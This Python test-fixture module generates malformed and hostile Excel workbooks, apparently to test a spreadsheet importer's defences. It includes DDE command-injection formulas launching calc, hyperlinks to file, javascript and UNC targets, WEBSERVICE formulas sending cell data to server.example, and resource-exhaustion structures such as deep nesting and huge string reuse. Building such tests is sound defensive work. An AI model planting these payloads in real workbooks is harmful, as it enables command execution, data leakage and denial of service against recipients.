"""Hostile sheets and cells: what is wrong with the content of an otherwise sound workbook."""

import re
from collections.abc import Iterator

from tests.hostile.package import (
    BOOK,
    RELATIONS,
    SHEETS,
    STRINGS,
    Parts,
    changed,
    parts,
    put,
    sheet,
    text_cell,
    with_cells,
    with_stream,
    zipped,
)

_STAFF = SHEETS["staff"]
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
LAST_ROW = 1_048_576


def _rows(rows: str) -> bytes:
    """The good workbook with rows added at the end of the staff."""
    return changed(_STAFF, lambda data: data.replace(b"</sheetData>", rows.encode() + b"</sheetData>"))


def _tail(xml: str, before: bytes = b"</worksheet>") -> bytes:
    return changed(_STAFF, lambda data: data.replace(before, xml.encode() + before, 1))


def far_cell() -> bytes:
    """A value in the last cell of the sheet."""
    return _rows(f'<row r="{LAST_ROW}"><c r="XFD{LAST_ROW}"><v>1</v></c></row>')


def many_rows() -> bytes:
    """Twenty-five thousand rows that are filled in."""
    return _rows("".join(f'<row r="{n}"><c r="C{n}"><v>{n}</v></c></row>' for n in range(100, 25_100)))


def outside() -> bytes:
    """A cell outside the sheet."""
    return _rows('<row r="1048577"><c r="XFE1048577"><v>1</v></c></row>')


def merged_sheet() -> bytes:
    """A merge over the whole sheet."""
    return changed(
        _STAFF,
        lambda data: data.replace(
            b"</sheetData>",
            f'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD{LAST_ROW}"/></mergeCells>'.encode(),
        ),
    )


def merged_headers() -> bytes:
    """Headers merged with the row above and with their neighbours."""
    merges = '<mergeCells count="2"><mergeCell ref="B3:B4"/><mergeCell ref="C3:D3"/></mergeCells>'
    return changed(_STAFF, lambda data: data.replace(b"</sheetData>", b"</sheetData>" + merges.encode()))


def bordered_to_the_bottom(kind: str = "staff") -> bytes:
    """An honest sheet with borders down to its last row."""
    start, _, end = parts()[SHEETS[kind]].partition(b"</sheetData>")
    last = int(start.rpartition(b'<row r="')[2].partition(b'"')[0])

    def pieces() -> Iterator[bytes]:
        yield start
        for first in range(last + 1, LAST_ROW + 1, 4096):
            rows = range(first, min(first + 4096, LAST_ROW + 1))
            yield "".join(
                f'<row r="{n}" spans="1:14"><c r="A{n}" s="4"/>'
                + "".join(f'<c r="{c}{n}" s="4"/>' for c in "BCDEFGH")
                + "</row>"
                for n in rows
            ).encode()
        yield b"</sheetData>" + end

    return with_stream(parts(), SHEETS[kind], pieces())


def repeated_text() -> bytes:
    """A text of 32,767 characters that two hundred thousand cells refer to."""
    content = parts()
    count = content[STRINGS].count(b"<si>")
    long = f"<si><t>{'長' * 32_767}</t></si>".encode()
    content[STRINGS] = content[STRINGS].replace(b"</sst>", long + b"</sst>")
    cells = "".join(f'<row r="{n}"><c r="C{n}" t="s"><v>{count}</v></c></row>' for n in range(100, 200_100))
    content[_STAFF] = content[_STAFF].replace(b"</sheetData>", cells.encode() + b"</sheetData>")
    return zipped(content)


def unknown_sheets() -> bytes:
    """Two hundred far-reaching sheets of unknown names, and no sheet 要員."""
    content = parts()
    wide = sheet('<row r="1"><c r="A1"><v>1</v></c></row><row r="9999"><c r="CZ9999"><v>1</v></c></row>')
    content[BOOK] = content[BOOK].replace('name="要員"'.encode(), 'name="名簿ではない"'.encode())
    content[_STAFF] = wide
    sheets, relations = [], []
    for number in range(200):
        content[f"xl/worksheets/wide{number}.xml"] = wide
        sheets.append(f'<sheet name="Wide{number}" sheetId="{500 + number}" r:id="wide{number}"/>')
        relations.append(
            f'<Relationship Id="wide{number}" Type="{_OFFICE}/worksheet" '
            f'Target="worksheets/wide{number}.xml"/>'
        )
    content[BOOK] = content[BOOK].replace(b"</sheets>", "".join(sheets).encode() + b"</sheets>")
    end = b"</Relationships>"
    content[RELATIONS] = content[RELATIONS].replace(end, "".join(relations).encode() + end)
    return zipped(content)


def many_headers() -> bytes:
    """A row of headers as wide as a sheet, none of which is the template's but two."""
    letters = [chr(65 + a) + chr(65 + b) for a in range(26) for b in range(26)]
    cells = "".join(text_cell(f"{c}4", f"要員の番号{n}") for n, c in enumerate(letters))

    def change(data: bytes) -> bytes:
        start, _, rest = data.partition(b'<c r="D4"')
        row_end = rest.index(b"</row>")
        return start + cells.encode() + rest[row_end:]

    return changed(_STAFF, change)


def endless_cells(cell: str, times: int = 150_000) -> bytes:
    """Cells that begin again and again and never end."""
    return changed(
        _STAFF, lambda data: data.replace(b"</sheetData>", (cell * times).encode() + b"</sheetData>")
    )


def deep() -> bytes:
    """Elements a hundred thousand deep."""
    return _rows("<x>" * 100_000 + "</x>" * 100_000)


def comments() -> bytes:
    """Ten thousand comments."""
    content = parts()
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    one = "".join(
        f'<comment ref="A{n}" authorId="0"><text><t>=cmd|\'/c calc\'!A{n}</t></text></comment>'
        for n in range(1, 10_001)
    )
    content["xl/comments1.xml"] = (
        f'<comments xmlns="{main}"><authors><author>x</author></authors>'
        f"<commentList>{one}</commentList></comments>"
    ).encode()
    content["xl/worksheets/_rels/sheet4.xml.rels"] = (
        f'<Relationships xmlns="{_RELATIONSHIPS}"><Relationship Id="c1" Type="{_OFFICE}/comments" '
        'Target="../comments1.xml"/></Relationships>'
    ).encode()
    content["[Content_Types].xml"] = content["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/comments1.xml" ContentType='
        b'"application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml"/></Types>',
    )
    return zipped(content)


def named(old: str, new: str) -> bytes:
    """A sheet of another name (``new`` is XML)."""
    return changed(BOOK, lambda data: data.replace(f'name="{old}"'.encode(), f'name="{new}"'.encode(), 1))


def linked() -> bytes:
    """Cells that lead to files, to scripts and to other computers."""
    content = parts()
    targets = (
        "file:///c:/windows/system32/calc.exe",
        "javascript:alert(1)",
        r"\\server.example\share\x.xlsx",
    )
    relations = "".join(
        f'<Relationship Id="h{n}" Type="{_OFFICE}/hyperlink" Target="{target}" TargetMode="External"/>'
        for n, target in enumerate(targets)
    )
    content["xl/worksheets/_rels/sheet4.xml.rels"] = (
        f'<?xml version="1.0"?><Relationships xmlns="{_RELATIONSHIPS}">{relations}</Relationships>'.encode()
    )
    links = "".join(f'<hyperlink ref="C{5 + n}" r:id="h{n}"/>' for n in range(len(targets)))
    content[_STAFF] = content[_STAFF].replace(
        b"<pageMargins", f"<hyperlinks>{links}</hyperlinks><pageMargins".encode(), 1
    )
    return zipped(content)


def formulas() -> bytes:
    """Formulas that ask the network or start programs, with the values that they had."""
    cells = {
        (
            "staff",
            "D5",
        ): '<c r="D5" t="str"><f>WEBSERVICE("http://server.example/?"&amp;C5)</f><v>架空本社</v></c>',
        ("staff", "D6"): '<c r="D6" t="str"><f>cmd|\'/c calc\'!A1</f><v>仮オフィス</v></c>',
        ("staff", "D7"): '<c r="D7" t="str"><f>HYPERLINK("http://server.example","押す")</f><v>押す</v></c>',
    }
    return with_cells(cells)


def uncached() -> bytes:
    """A formula of the kind without a value."""
    return with_cells({("staff", "F5"): '<c r="F5" s="17"><f>WEBSERVICE("http://server.example/")</f></c>'})


def error() -> bytes:
    """A date cell that shows an error."""
    return with_cells({("staff", "F5"): '<c r="F5" s="17" t="e"><v>#N/A</v></c>'})


def dated(value: str, cell: str = "F5") -> bytes:
    """A date cell that holds ``value``."""
    own = re.search(rf'<c r="{cell}" s="([0-9]+)"', parts()[_STAFF].decode())
    assert own, f"{cell} has no format"
    return with_cells({("staff", cell): f'<c r="{cell}" s="{own[1]}"><v>{value}</v></c>'})


def dates_of_1904() -> bytes:
    """The whole workbook counted from 1904."""
    content = parts()
    before = content[BOOK]
    content[BOOK] = before.replace(b"<workbookPr ", b'<workbookPr date1904="1" ')
    assert content[BOOK] != before
    for name, data in content.items():
        if name.startswith("xl/worksheets/sheet"):
            content[name] = _shifted(data)
    return zipped(content)


def _shifted(data: bytes) -> bytes:
    def shift(found: re.Match[bytes]) -> bytes:
        number = int(found[2])
        return found[1] + str(number - 1462 if 30_000 < number < 80_000 else number).encode()

    # dates stand in cells without a type
    return re.sub(rb'(<c r="[A-Z]+[0-9]+" s="[0-9]+"><v>)([0-9]+)(?=</v>)', shift, data)


def text(value: str, sheet_kind: str = "staff", cell: str = "C5") -> bytes:
    """A text cell (``value`` is XML)."""
    return with_cells({(sheet_kind, cell): text_cell(cell, value)})


def numbers_as_text() -> bytes:
    """A serial number as text in a date column, and the number of staff as a number."""
    content: Parts = parts()
    put(content, "staff", "F5", text_cell("F5", "43988"))
    put(content, "applicant", "C12", '<c r="C12"><v>312345678</v></c>')
    return zipped(content)


def long_number() -> bytes:
    """An identifier of eighteen digits as a number."""
    return with_cells({("applicant", "C5"): '<c r="C5"><v>1.2345678901234568E+17</v></c>'})
